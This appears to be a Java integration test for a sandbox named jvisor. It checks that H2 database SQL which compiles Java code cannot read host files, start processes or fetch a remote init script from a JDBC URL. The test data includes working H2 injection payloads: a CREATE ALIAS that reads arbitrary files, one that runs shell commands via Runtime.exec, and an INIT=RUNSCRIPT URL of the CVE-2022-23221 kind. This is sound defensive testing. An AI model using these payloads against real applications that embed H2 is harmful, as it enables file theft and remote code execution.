package io.jvisor.sandbox.cli;

import static org.junit.jupiter.api.Assertions.assertAll;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.jvisor.sandbox.cli.Launch.Result;

import com.sun.net.httpserver.HttpServer;

import java.io.IOException;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.atomic.AtomicInteger;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The H2 database from Maven Central, unmodified, runs SQL that makes Java code: {@code CREATE
 * ALIAS ... AS 'source'} has H2 compile the source with the JDK's compiler and load it, which is
 * how an attacker who controls a query or a JDBC URL runs code in a program that embeds H2
 * (CVE-2022-23221 reached it through a URL's {@code INIT}). Under jvisor that code is the guest's,
 * trapped as the rest: it reads the guest's disk, not the host's files, starts no process, and its
 * {@code System.exit} ends the guest alone; a URL's script on another machine is never fetched.
 */
class H2FunctionsIT {

    @TempDir
    Path dir;

    private static final String READ_FILE = "CREATE ALIAS READ_FILE AS "
            + "'String read(String path) throws Exception { return new String(java.nio.file.Files.readAllBytes(java.nio.file.Paths.get(path))); }'";

    /** H2's shell running one line of SQL on a database: main class and arguments. */
    private static String[] shell(String url, String sql) {
        return new String[] {"org.h2.tools.Shell", "-url", url, "-user", "sa", "-sql", sql};
    }

    /** H2's main class and arguments run in a JVM of their own. */
    private Result natively(String... shell) {
        List<String> args = new ArrayList<>(List.of("-cp", Launch.property("guest.h2").toString()));
        args.addAll(List.of(shell));
        return Launch.java(dir, args.toArray(String[]::new));
    }

    /** H2's main class and arguments run as a guest, on a disk of its own. */
    private Result guest(String... shell) {
        List<String> args = new ArrayList<>(List.of("run", "--disk", dir.resolve("disk").toString(), "--main", shell[0],
                Launch.property("guest.h2").toString()));
        args.addAll(List.of(shell).subList(1, shell.length));
        return Launch.jvisor(dir, args.toArray(String[]::new));
    }

    @Test
    void javaThatSqlCompilesIsTheGuestsCodeTrappedAsTheRest() throws IOException {
        Path secret = Files.writeString(dir.resolve("secret.txt"), "the host's secret");
        String readSecret = READ_FILE + "; CALL READ_FILE('" + secret + "')";

        Result nativeRun = natively(shell("jdbc:h2:mem:", readSecret));
        Result guest = guest(shell("jdbc:h2:mem:", readSecret
                + "; CREATE ALIAS RUN AS 'String run(String c) throws Exception { return new String(Runtime.getRuntime().exec(c).getInputStream().readAllBytes()); }'"
                + "; CALL RUN('id')"
                + "; CREATE ALIAS BYE AS 'void bye() { System.exit(7); }'; CALL BYE(); SELECT 'after the exit'"));
        String guestOutput = guest.stdout() + guest.stderr();

        assertAll(nativeRun + "\n" + guest,
                () -> assertTrue(nativeRun.stdout().contains("the host's secret"), "natively, the function reads the host's file"),
                () -> assertEquals(7, guest.status(), "the function's System.exit ended the guest with its status"),
                () -> assertFalse(guestOutput.contains("the host's secret"), "the host's file read in the guest"),
                () -> assertTrue(guestOutput.contains("read(" + secret + ")"), "the read failed: the disk has no such file"),
                () -> assertTrue(guestOutput.contains("may not start processes"), "the process refused"),
                () -> assertFalse(guestOutput.contains("after the exit"), "the guest went on after its exit"));
    }

    @Test
    void aUrlsInitScriptFromTheNetworkIsNeverFetched() throws IOException {
        AtomicInteger fetched = new AtomicInteger();
        HttpServer server = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
        server.createContext("/init.sql", exchange -> {
            fetched.incrementAndGet();
            byte[] script = "CREATE ALIAS BYE AS 'void bye() { System.exit(9); }'; CALL BYE();".getBytes(StandardCharsets.UTF_8);
            exchange.sendResponseHeaders(200, script.length);
            try (OutputStream body = exchange.getResponseBody()) {
                body.write(script);
            }
        });
        server.start();
        try {
            String url = "jdbc:h2:mem:;INIT=RUNSCRIPT FROM 'http://127.0.0.1:" + server.getAddress().getPort() + "/init.sql'";
            Result nativeRun = natively(shell(url, "SELECT 1"));
            int fetchedNatively = fetched.getAndSet(0);
            Result guest = guest(shell(url, "SELECT 1"));

            assertAll(nativeRun + "\n" + guest,
                    () -> assertEquals(9, nativeRun.status(), "natively, the script's function ends the JVM"),
                    () -> assertEquals(1, fetchedNatively),
                    () -> assertEquals(0, fetched.get(), "the script fetched by the guest"),
                    () -> assertEquals(1, guest.status()),
                    () -> assertTrue(guest.stderr().contains("Connection refused by jvisor"), "the connection refused"));
        } finally {
            server.stop(0);
        }
    }
}
